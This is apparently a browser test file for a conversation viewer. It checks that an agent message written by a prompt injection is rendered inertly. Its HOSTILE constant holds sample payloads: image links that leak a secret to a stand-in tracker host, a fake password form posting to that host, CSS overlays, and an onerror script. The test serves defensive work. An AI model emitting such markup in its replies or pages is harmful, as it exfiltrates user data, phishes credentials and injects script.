import { describe, expect, it } from 'vitest';
import { browserMissing, seriousAccessibilityViolations } from '../support/browser.ts';
import { replayedConversation, waitFor } from '../support/conversations.ts';
import { browserSuite, pagesWithoutErrors } from '../support/browser-suite.ts';

// An agent's message is text a prompt injection may have written. Shown in Chromium, it loads
// nothing from another host until the reader clicks, restyles nothing, and offers no form: its
// HTML shows as the text it is.

const HOSTILE = [
  'Here is the status chart: ![status chart](https://tracker.example/pixel.png?leak=secret)',
  '<img src="https://tracker.example/raw.png?leak=secret">',
  '<style>body { background: rgb(255, 0, 0) !important; }</style>',
  '<div style="position: fixed; inset: 0; background: rgb(0, 0, 255)">covered</div>',
  '<form action="https://tracker.example/steal"><label>Re-enter your password <input name="password" type="password"></label><button>Sign in</button></form>',
  '<textarea>notes</textarea><select><option>one</option></select>',
  '<img src="x" onerror="window.pwned = true">',
  'An inline image stays: ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
].join('\n\n');

const trajectory = [
  { id: 0, timestamp: '2026-01-01T00:00:00Z', source: 'user', action: 'message', args: { content: 'Show me' } },
  { id: 1, timestamp: '2026-01-01T00:00:01Z', source: 'agent', action: 'message', args: { content: HOSTILE } },
];

describe.skipIf(browserMissing())('an agent’s message written by a prompt injection, in the browser', () => {
  const suite = browserSuite({ mode: 'oss' });
  const openPage = pagesWithoutErrors();

  it('loads no image until clicked, and keeps no style, form or control', async () => {
    const { server, browser } = suite;
    const id = await replayedConversation(server.url, trajectory);

    const page = await openPage(browser);
    const outside: string[] = [];
    page.on('request', (request) => {
      if (new URL(request.url()).host === 'tracker.example') outside.push(request.url());
    });
    await page.goto(`${server.url}/conversations/${id}`);
    const log = page.getByRole('log');
    const message = log.locator('[data-index]').filter({ hasText: 'Here is the status chart' });
    const chart = message.getByRole('button', { name: 'Show image “status chart” from tracker.example' });
    await chart.waitFor();
    await message.getByText('<form action="https://tracker.example/steal">', { exact: false }).waitFor();

    expect(outside).toEqual([]);
    const inMessage = await message.evaluate((element) => ({
      styles: element.querySelectorAll('style, [style]').length,
      controls: element.querySelectorAll('form, input, textarea, select, option, label').length,
      // The placeholders are the only buttons.
      buttons: [...element.querySelectorAll('button')].map((button) => button.dataset.imageSrc ?? 'not a placeholder'),
      inlineImages: [...element.querySelectorAll('img')].map((image) => image.getAttribute('src')?.slice(0, 15)),
    }));
    expect(inMessage).toEqual({
      styles: 0,
      controls: 0,
      buttons: ['https://tracker.example/pixel.png?leak=secret'],
      inlineImages: ['data:image/gif;'],
    });
    expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).not.toBe('rgb(255, 0, 0)');
    expect(await page.evaluate(() => (window as { pwned?: boolean }).pwned)).toBeUndefined();
    expect(await seriousAccessibilityViolations(page)).toEqual([]);

    // The reader asks for the chart, by keyboard: that image, and only it, is fetched.
    await chart.focus();
    await page.keyboard.press('Enter');
    await message.getByRole('img', { name: 'status chart' }).waitFor({ state: 'attached' });
    await waitFor(
      () => outside,
      (urls) => urls.length > 0,
      5000,
      'the chart to be requested',
    );
    expect(outside.every((url) => url === 'https://tracker.example/pixel.png?leak=secret')).toBe(true);
    expect(await page.evaluate(() => (window as { pwned?: boolean }).pwned)).toBeUndefined();
  });
});
